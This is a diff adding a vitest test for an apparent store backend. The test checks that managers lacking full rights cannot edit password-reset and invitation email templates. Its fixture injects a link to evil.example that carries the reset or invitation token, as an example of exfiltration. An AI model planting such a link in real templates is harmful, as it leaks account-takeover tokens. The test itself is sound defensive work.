@@ -6,12 +6,14 @@ import { expect, it } from "vitest";
 import { rightsAtFirst } from "#core/contract/rights";
 import * as session from "#core/contract/session";
 import * as contract from "#core/contract/staff";
+import * as template from "#core/contract/template";
 import { db } from "#core/db/client";
 import { eq, sql } from "#core/db/drizzle";
 import { guessesMax } from "#core/staff/sessions/attempts";
 import { passwordResets } from "#core/staff/staff.table";
 import { entriesAbout } from "../support/audit.ts";
 import { call } from "../support/call.ts";
+import { aKey } from "../support/given/given.ts";
 import { aMailServer, mailsGoTo, workOnMessages } from "../support/given/mail.ts";
 import { aPerson, aSignedIn, password, roleHas, signedIn } from "../support/given/people.ts";
 
@@ -153,4 +155,33 @@ it("an owner who is locked out gets a link on the host", async () => {
   expect(await signedIn(email, chosen)).toBeDefined();
   const unknownOne = promisify(execFile)(process.execPath, [script, "--reset", "nobody@store.test"]);
   await expect(unknownOne).rejects.toMatchObject({ code: 1, stderr: expect.stringContaining("No one on the team") });
+});
+
+// The link would lead an owner to another server, which could use it first.
+it("only someone with every right writes the emails that have such links", async () => {
+  await roleHas("manager", [...rightsAtFirst("manager"), "templates.write", "team.write"]);
+  const as = await aKey({ role: "manager" });
+  for (const kind of ["staff.passwordReset", "staff.invited"] as const) {
+    const named = { kind, channel: "email" } as const;
+    const before = (await call(template.read, named)).body;
+    const { html = "", ...source } = before.source;
+    const link = kind === "staff.invited" ? "invitation.link" : "reset.link";
+    const edited = {
+      ...named,
+      source: { ...source, html: `${html}<a href="https://evil.example/?{{ ${link} }}">Here</a>` },
+    };
+    expect(await call(template.edit, edited, { as })).toMatchObject(refused(403, "right.beyond"));
+    expect((await call(template.read, named)).body).toEqual(before);
+    expect(await call(template.reset, named, { as })).toMatchObject({ status: 200 });
+    expect(await call(template.edit, { ...named, source: { ...source, html: `${html}<p>Welcome</p>` } })).toMatchObject(
+      {
+        status: 200,
+      },
+    );
+    await call(template.reset, named);
+  }
+  const other = { kind: "staff.emailChanged", channel: "email" } as const;
+  const { source } = (await call(template.read, other)).body;
+  expect(await call(template.edit, { ...other, source }, { as })).toMatchObject({ status: 200 });
+  await roleHas("manager", rightsAtFirst("manager"));
 });
